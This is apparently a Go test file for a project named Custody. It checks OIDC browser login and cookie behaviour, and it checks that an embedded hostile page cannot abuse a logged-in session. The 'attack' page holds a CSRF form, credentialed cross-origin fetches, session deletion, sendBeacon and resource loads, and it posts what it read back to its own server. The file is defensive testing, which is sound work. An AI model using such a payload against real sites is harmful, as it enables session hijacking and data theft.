package access_test

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/custody-project/custody/audit"
	"github.com/custody-project/custody/internal/browser"
	"github.com/custody-project/custody/replay/access"
)

// front is a page that names who it is for, as far as its own requests can tell.
const front = `<!doctype html><title>front</title><body>asking<script>
fetch("/api/v1/session").then(async r => {
  document.body.textContent = r.status + " " + ((await r.json()).name || "");
  fetch("/arrived?" + encodeURIComponent(document.body.textContent));
});
</script>`

// serveFront adds the page, and an empty one to begin at. The channel has each answer that the page got.
func (s *withOIDC) serveFront() (answers chan string) {
	answers = make(chan string, 100)
	s.mux.HandleFunc("GET /blank", func(w http.ResponseWriter, r *http.Request) {})
	s.mux.HandleFunc("GET /arrived", func(w http.ResponseWriter, r *http.Request) {
		text, _ := url.QueryUnescape(r.URL.RawQuery)
		answers <- text
	})
	s.mux.Handle("GET /{$}", s.Host(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		w.Write([]byte(front))
	})))
	return answers
}

// heard waits for the answer that the page got.
func heard(t *testing.T, answers chan string, want string) {
	t.Helper()
	select {
	case got := <-answers:
		if got != want {
			t.Fatalf("a page got %q, want %q", got, want)
		}
	case <-time.After(time.Minute):
		t.Fatal("the page did not come")
	}
}

// TestBrowserLogin: Chromium takes the cookies of the code flow as they are meant: the strict one is
// set on the way back from another site, and the page has it.
func TestBrowserLogin(t *testing.T) {
	s := newOIDC(t, nil)
	answers := s.serveFront()
	p := browser.Open(t, s.base+"/blank", 800, 600)
	p.Allow("another host: " + s.Issuer)
	p.Allow("favicon.ico")
	p.Allow("status of 401") // the answer without credentials
	p.Go(s.base + "/")
	heard(t, answers, "401 ")
	p.Go(s.base + "/oidc/login?next=/")
	p.Type("input[name=user]", "ada")
	p.Type("input[name=password]", "pw")
	p.Click("button")
	heard(t, answers, "200 ada@example.com")
	p.Go(s.base + "/?later")
	heard(t, answers, "200 ada@example.com")
	if got := browser.Eval[string](p, "document.cookie"); got != "" {
		t.Errorf("a script can read %q", got)
	}
	if got := browser.Eval[int](p, `fetch("/api/v1/auditor/r-1", {method: "POST"}).then(r => r.status)`); got != 200 {
		t.Errorf("the page's own POST: %d", got)
	}
	if got := browser.Eval[int](p, `fetch("/api/v1/session", {method: "DELETE"}).then(r => r.status)`); got != 204 {
		t.Errorf("logout: %d", got)
	}
	p.Go(s.base + "/?again")
	heard(t, answers, "401 ")
}

// TestBrowserAttacks: a page at another port of this host, which is the same site to SameSite, and one
// of another site do all that a page can do with someone's session. It has no effect.
func TestBrowserAttacks(t *testing.T) {
	s := newOIDC(t, nil)
	answers := s.serveFront()
	s.mux.Handle("POST /form", s.Guard("POST /form", access.Rule{Role: access.Viewer, Action: "view"}, http.HandlerFunc(show)))
	seen := make(chan string, 10)
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method == "POST" {
			text, _ := io.ReadAll(r.Body)
			seen <- string(text)
			return
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, attack, s.base)
	}))
	defer evil.Close()

	p := browser.Open(t, s.base+"/blank", 800, 600)
	p.Allow("") // all that fails is meant to
	once, _ := s.Once()
	if got := browser.Eval[int](p, `fetch("/api/v1/session", {method: "POST", headers: {"Content-Type": "application/json"}, body: JSON.stringify({token: "`+once+`"})}).then(r => r.status)`); got != 201 {
		t.Fatalf("login: %d", got)
	}
	before := len(s.log.all())
	for _, origin := range []string{evil.URL, strings.Replace(evil.URL, "127.0.0.1", "localhost", 1)} {
		p.Go(origin)
		heard(t, seen, "read: ")
		// The page goes on to send a form, which takes the browser to the answer.
		wait(t, func() bool { return s.log.last(t).Route == "POST /form" })
		p.Wait(`location.pathname == "/form" && document.readyState == "complete"`) // or its end would break off the next page
	}
	refused := s.log.all()[before:]
	reasons := map[string]int{}
	for _, e := range refused {
		reasons[e.Reason]++
		if e.Verdict == audit.Allow {
			t.Errorf("let in: %+v", e)
		}
	}
	if reasons["origin"] < 10 || len(reasons) != 1 {
		t.Errorf("refused were %v", reasons)
	}
	// A name that was made to lead here: Chromium takes every name below localhost for this machine.
	p.Go(strings.Replace(s.base, "127.0.0.1", "evil.localhost", 1) + "/")
	wait(t, func() bool { return s.log.last(t).Reason == "host" })
	p.Go(s.base + "/")
	heard(t, answers, "200 local")
}

// wait waits until something is so, which the browser brings about.
func wait(t *testing.T, so func() bool) {
	t.Helper()
	for range 1000 {
		if so() {
			return
		}
		time.Sleep(20 * time.Millisecond)
	}
	t.Fatal("it did not come about")
}

// attack tries what a page can. Its %s is the address of Custody.
const attack = `<!doctype html><title>evil</title><body>trying
<form id="form" method="post" enctype="text/plain" action="%[1]s/form"><button>Free prizes</button></form>
<script>
let seen = "read: ";
const at = "%[1]s";
const quiet = promise => promise.then(async r => { seen += await r.text(); }, () => {});
const load = (tag, attribute) => new Promise(done => {
  const e = document.createElement(tag);
  e.onload = e.onerror = done;
  e[attribute] = at + "/api/v1/viewer/r-1";
  document.body.append(e);
});
(async () => {
  for (const method of ["GET", "POST"]) {
    await quiet(fetch(at + "/api/v1/viewer/r-1", {method, mode: "no-cors", credentials: "include"}));
    await quiet(fetch(at + "/api/v1/viewer/r-1", {method, credentials: "include"}));
    await quiet(fetch(at + "/api/v1/viewer/r-1", {method, credentials: "include", headers: {"Custody-Tenant": "acme"}}));
  }
  await quiet(fetch(at + "/api/v1/session", {method: "DELETE", credentials: "include"}));
  await quiet(fetch(at + "/api/v1/session", {method: "POST", mode: "no-cors", credentials: "include", body: '{"token":"cst_x"}'}));
  await load("script", "src");
  await load("img", "src");
  await load("iframe", "src");
  navigator.sendBeacon(at + "/api/v1/viewer/r-1", "x");
  await fetch("/seen", {method: "POST", body: seen});
  document.getElementById("form").submit();
})();
</script>`
